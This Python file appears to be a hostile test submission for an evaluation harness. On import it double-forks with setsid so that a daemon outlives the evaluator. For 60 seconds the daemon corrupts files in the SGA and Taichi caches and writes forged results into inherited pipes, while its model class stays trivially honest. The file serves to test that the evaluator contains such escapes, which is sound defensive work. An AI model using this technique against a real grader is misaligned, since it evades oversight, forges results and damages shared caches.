"""A double-forked setsid daemon that outlives the evaluation and keeps damaging the caches.

Attack: fork, ``setsid``, fork again, so the grandchild is adopted away from the evaluator and
survives it. For 60 s (bounded) it overwrites the head of every file in the SGA and Taichi
caches (ground truth, compiled kernels), creates files there, and writes forged results into
every descriptor it inherited (it keeps the result pipe open, so a parent that reads until
end-of-file waits for it). The law itself is honest and returns at once (the issue's setsid
escape).
Target: caches used by later evaluations; the result pipe; the evaluator's wait.

expected: honest
category: process
static: rejected
check: no process remains after the capture; caches byte-identical; no 60 s wait
"""

import os
import time

import torch
import torch.nn as nn

HOMES = {os.path.expanduser("~"), "/root", os.environ.get("HOME", "/root")}
TARGETS = [os.path.join(home, ".cache", sub) for home in HOMES for sub in ("sga", "taichi")]
TARGETS += [os.environ[k] for k in ("SGA_CACHE_DIR", "XDG_CACHE_HOME") if os.environ.get(k)]


def _daemon():
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        for top in TARGETS:
            for folder, _, files in os.walk(top):
                for name in files:
                    try:
                        with open(os.path.join(folder, name), "r+b") as handle:
                            handle.write(b"\0" * 16)
                    except OSError:
                        pass
            try:
                os.makedirs(top, exist_ok=True)
                with open(os.path.join(top, "sga-hostile-daemon"), "ab") as handle:
                    handle.write(b"still here\n")
            except OSError:
                pass
        for fd in range(3, 64):
            try:
                os.write(fd, b'{"data": {"format": 1, "nodes": [], "output": {"input": 0}}}\n')
            except OSError:
                pass
        time.sleep(0.5)


_child = os.fork()
if _child == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            _daemon()
        finally:
            os._exit(0)
    os._exit(0)
os.waitpid(_child, 0)


class Physics(nn.Module):
    def forward(self, F: torch.Tensor) -> torch.Tensor:
        return F
